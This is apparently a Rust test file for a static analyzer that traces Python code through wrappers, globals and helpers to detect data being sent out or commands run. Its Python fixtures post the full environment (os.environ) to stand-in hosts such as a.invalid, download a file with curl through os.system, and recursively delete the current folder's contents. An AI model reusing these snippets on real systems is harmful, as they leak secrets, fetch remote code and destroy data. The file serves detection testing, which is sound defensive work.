//! Claims about what is remembered of calls: nothing of one call becomes a part of another.

#[allow(dead_code, reason = "shared with other tests")]
mod common;

use common::{calls, events_of};
use venin_model::{Event, Family, OriginKind, Role};

fn texts(event: &Event, role: Role) -> Vec<String> {
    let of_role = event.arguments.iter().filter(|argument| argument.role == role);
    of_role.filter_map(|argument| argument.value.as_ref()).map(|value| value.text.to_string()).collect()
}

/// The first text in a role of every event of a family.
fn first_texts(source: &str, family: Family, role: Role) -> Vec<String> {
    let events = events_of(source);
    let events = events.iter().filter(|event| event.class.family == family);
    events.filter_map(|event| texts(event, role).into_iter().next()).collect()
}

/// Whether the environment is sent.
fn sends_environment(source: &str) -> bool {
    events_of(source).iter().any(|event| {
        event.class.family == Family::Cn
            && event
                .arguments
                .iter()
                .any(|a| a.role == Role::Data && a.origins.kinds.contains(OriginKind::Env))
    })
}

/// Ten calls that say nothing, then one that counts, each by way of the same wrapper.
fn wrapped(wrapper: &str, call: &str) -> String {
    let through = |called: &str, arguments: &str| call.replace("FUNC", called).replace("ARGS", arguments);
    let idle: String = (0..10).map(|n| through("len", &format!("'a{n}'")) + "\n").collect();
    let environment = through("dict", "os.environ");
    let sent = through("requests.post", &format!("'https://a.invalid', {environment}"));
    format!("import os, requests\n{wrapper}\n{idle}{sent}\n")
}

#[test]
fn a_wrapper_of_calls_does_whatever_it_is_given_however_often_it_ran() {
    for (wrapper, call) in [
        ("def go(f, *a):\n    return f(*a)", "go(FUNC, ARGS)"),
        ("go = lambda f, *a: f(*a)", "go(FUNC, ARGS)"),
        ("def go(f):\n    def run(*a):\n        return lambda: f(*a)\n    return run", "go(FUNC)(ARGS)()"),
        ("def go(f, *a):\n    def run():\n        return f(*a)\n    return run()", "go(FUNC, ARGS)"),
        (
            "class Go:\n    def __init__(self, f, *a):\n        self.f, self.a = f, a\n    def run(self):\n        return self.f(*self.a)",
            "Go(FUNC, ARGS).run()",
        ),
        (
            "class Go:\n    def __init__(self, f):\n        self.f = f\n    def __call__(self, *a):\n        return self.f(*a)",
            "Go(FUNC)(ARGS)",
        ),
        ("def go(f, *a):\n    yield f(*a)", "next(go(FUNC, ARGS))"),
        ("def go(o, *a):\n    held = {'f': o, 'a': a}\n    return held['f'](*held['a'])", "go(FUNC, ARGS)"),
    ] {
        assert!(sends_environment(&wrapped(wrapper, call)), "{wrapper}");
    }
}

#[test]
fn a_wrapper_of_calls_may_wrap_what_calls_it() {
    let source = "\
import os, requests
def go(f, *a):
    return f(*a)
def collect():
    return go(dict, os.environ)
def send(data):
    return go(requests.post, 'https://a.invalid', data)
def main():
    go(send, go(collect))
go(main)
";
    assert!(sends_environment(source));
}

#[test]
fn a_function_that_calls_itself_by_a_wrapper_comes_to_an_end() {
    let source = "\
import os
def go(f, *a):
    return f(*a)
def walk(node):
    os.system('echo once')
    return [go(walk, child) for child in node.children] + [go(walk, node.next), go(lambda n: walk(n), node)]
go(walk, root)
";
    assert!(calls(source).iter().any(|name| name == "os.system"));
}

#[test]
fn what_a_function_reads_is_what_another_wrote_last() {
    for (put, take) in [
        ("def put(v):\n    global held\n    held = v", "def take():\n    return held"),
        ("held = None\ndef put(v):\n    globals()['held'] = v", "def take():\n    return held"),
        ("box = {}\ndef put(v):\n    box['v'] = v", "def take():\n    return box['v']"),
    ] {
        let source = format!(
            "import os, requests\n{put}\n{take}\nput('a')\ntake()\nput('b')\ntake()\nput(dict(os.environ))\nrequests.post('https://a.invalid', data=take())\n"
        );
        assert!(sends_environment(&source), "{source}");
    }
}

#[test]
fn an_iterator_that_is_used_up_is_not_given_again() {
    let source = "\
import os, requests
def flow(v):
    yield v
data = next(flow(dict(os.environ)))
requests.post('https://a.invalid', data=next(flow(data)))
";
    assert!(sends_environment(source));
}

#[test]
fn a_helper_that_is_called_for_two_servers_talks_to_each_of_them() {
    let source = "\
import os, requests
def ask(url, data):
    return requests.post(url, data=data)
ask('https://first.invalid/a', 'hello')
ask('https://second.invalid/b', dict(os.environ))
ask('https://first.invalid/c', 'again')
";
    let events: Vec<Event> =
        events_of(source).into_iter().filter(|event| &*event.name == "requests.post").collect();
    assert_eq!(events.len(), 2, "{events:?}");
    assert_eq!(texts(&events[0], Role::Url), ["https://first.invalid/a", "https://first.invalid/c"]);
    assert_eq!(texts(&events[1], Role::Url), ["https://second.invalid/b"]);
    assert!(!events[0].input.kinds.contains(OriginKind::Env));
    assert!(events[1].input.kinds.contains(OriginKind::Env));
}

#[test]
fn many_servers_of_one_helper_are_kept_within_bounds() {
    let many: String = (0..60).map(|n| format!("ask('https://s{n}.invalid/')\n")).collect();
    let source = format!("import requests\ndef ask(url):\n    return requests.get(url)\n{many}");
    let events = events_of(&source);
    assert!(events.len() <= 8, "{}", events.len());
    let urls: usize = events.iter().map(|event| texts(event, Role::Url).len()).sum();
    assert!(urls >= 24, "{urls}");
}

#[test]
fn each_command_line_that_a_helper_is_given_is_read() {
    let helper = "import os\ndef run(line):\n    os.system(line)\nrun('echo a')\nrun('curl -sO https://a.invalid/x')\n";
    let looped = "import os\nfor line in ['echo a', 'curl -sO https://a.invalid/x']:\n    os.system(line)\n";
    for source in [helper, looped] {
        assert_eq!(first_texts(source, Family::Cn, Role::Url), ["https://a.invalid/x"], "{source}");
    }
}

#[test]
fn each_file_that_a_helper_writes_is_known() {
    let source = "\
import os
def put(path, text):
    with open(path, 'w') as f:
        f.write(text)
put('notes.txt', 'hello')
put('later.py', 'import os\\nos.system(\"echo found\")')
os.system('python later.py')
";
    let commands = first_texts(source, Family::Cs, Role::Command);
    assert!(commands.iter().any(|line| line == "echo found"), "{commands:?}");
}

#[test]
fn the_folder_in_force_is_not_the_root() {
    let source =
        "import shutil\nfrom pathlib import Path\nfor p in Path('').iterdir():\n    shutil.rmtree(p)\n";
    assert_eq!(first_texts(source, Family::Cf, Role::Path).last().map(String::as_str), Some("./*"));
}

#[test]
fn a_helper_is_run_again_while_its_calls_show_something_new() {
    let helper = "def tell(what):\n    print(what)\n    requests.post('https://a.invalid', data=what)";
    let same: String = (0..30).map(|_| "tell(unknown())\n").collect();
    assert!(sends_environment(&format!(
        "import os, requests\nfrom b import unknown\n{helper}\n{same}tell(os.environ)\n"
    )));
    let other = "def go(what):\n    print(what)\n    return what";
    let same: String = (0..30).map(|_| "go(unknown())\n").collect();
    let source = format!(
        "import os, requests\nfrom b import unknown\n{other}\n{same}requests.post('https://a.invalid', data=go(os.environ))\n"
    );
    assert!(sends_environment(&source));
}
